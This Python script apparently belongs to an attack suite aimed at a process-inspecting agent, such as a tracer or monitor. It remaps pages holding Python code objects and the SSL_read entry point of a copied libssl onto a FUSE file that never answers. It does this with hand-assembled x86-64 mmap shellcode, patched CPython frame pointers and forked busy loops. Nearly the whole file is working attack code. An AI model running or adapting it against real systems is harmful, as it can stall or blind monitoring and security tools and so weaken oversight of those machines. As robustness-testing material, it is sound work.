"""Processes that exchange pages which the agent reads, code of Python and starts of TLS functions, for those of a file
system of their own that never answers it, as fast as they can."""
import ctypes
import mmap
import os
import platform
import shutil
import struct
import sys
import time

from attack import executable_page, folder, fork, order, over, reap, rest
from fuse import files, friends, libc, mount_own, names

PAGE, NODE = 4096, 2
FIXED, PRIVATE, ANONYMOUS = 0x10, 0x02, 0x20
names[b"page"] = NODE
files[NODE] = bytes(PAGE)
libc.mmap.restype = ctypes.c_void_p
libc.mmap.argtypes = [ctypes.c_void_p, ctypes.c_size_t] + [ctypes.c_int] * 3 + [ctypes.c_long]


def code_of_python(file):
    """A frame's code lies in such a page, while native code under it keeps a processor busy."""
    page = libc.mmap(None, PAGE, 3, PRIVATE | ANONYMOUS, -1, 0)
    frame, code = sys._getframe(), sys._getframe().f_code
    # PyFrameObject tells the frame of the interpreter, which has the code in one of its first words.
    words = ctypes.cast(ctypes.c_void_p.from_address(id(frame) + 24).value, ctypes.POINTER(ctypes.c_uint64))
    place = next(i for i in range(12) if words[i] == id(code))

    def load(register, value):
        return {"rax": b"\x48\xb8", "rcx": b"\x48\xb9", "rdx": b"\x48\xba", "rsi": b"\x48\xbe", "rdi": b"\x48\xbf",
                "r8": b"\x49\xb8", "r9": b"\x49\xb9", "r10": b"\x49\xba"}[register] + struct.pack("<q", value)

    def mapping(access, flags, fd):
        arguments = {"rax": 9, "rdi": page, "rsi": PAGE, "rdx": access, "r10": flags, "r8": fd, "r9": 0}
        return b"".join(load(*each) for each in arguments.items()) + b"\x0f\x05"

    def wait(rounds):
        return load("rcx", rounds) + b"\x48\xff\xc9\x75\xfb"  # dec rcx; jnz

    loop = mapping(3, PRIVATE | ANONYMOUS | FIXED, -1) + load("rdi", page) + load("rsi", id(code)) + load("rcx", 256) + b"\xf3\xa4"
    loop += wait(5000) + mapping(1, PRIVATE | FIXED, file) + wait(1000)
    _, address = executable_page(loop + b"\xe9" + struct.pack("<i", -len(loop) - 5))
    ctypes.memmove(page, id(code), 256)
    words[place] = page
    ctypes.PYFUNCTYPE(None)(address)()  # with the lock, as the interpreter's own code


def start_of_function(file, number, library):
    """A library that the agent has not met, which has the page with such functions by turns."""
    path = os.path.join(folder, f"libssl-{number}.so.3")
    shutil.copy(library, path)
    loaded = ctypes.CDLL(path)
    address = ctypes.cast(loaded.SSL_read, ctypes.c_void_p).value // PAGE * PAGE
    with open("/proc/self/maps") as maps:
        start, offset = next((int(line.split("-")[0], 16), int(line.split()[2], 16)) for line in maps
                             if path in line and line.split()[1] == "r-xp")
    own = os.open(path, os.O_RDONLY)
    end = time.monotonic() + min(3, rest())
    while time.monotonic() < end:
        libc.mmap(address, PAGE, 1, PRIVATE | FIXED, file, 0)
        libc.mmap(address, PAGE, 5, PRIVATE | FIXED, own, address - start + offset)
        ctypes.string_at(address, 1)


def main():
    low = os.path.join(folder, "low")
    os.mkdir(low)
    mount_own(low, order["fuse"])
    library = next((each for each in ("/usr/lib/x86_64-linux-gnu/libssl.so.3", "/usr/lib/aarch64-linux-gnu/libssl.so.3")
                    if os.path.exists(each)), None)
    # The first that is closed tells the kernel that closing (FLUSH) needs no answer: nobody waits for it at the end.
    os.close(os.open(os.path.join(low, "page"), os.O_RDONLY))
    file = os.open(os.path.join(low, "page"), os.O_RDONLY)
    if platform.machine() == "x86_64":
        for _ in range(2):
            fork(code_of_python, file)
    number = 0
    while not over():
        pids = []
        for _ in range(4 if library else 0):
            number += 1
            pids.append(fork(start_of_function, file, number, library))
        for pid in pids:
            os.waitpid(pid, 0)


if order["fuse"]:
    main()
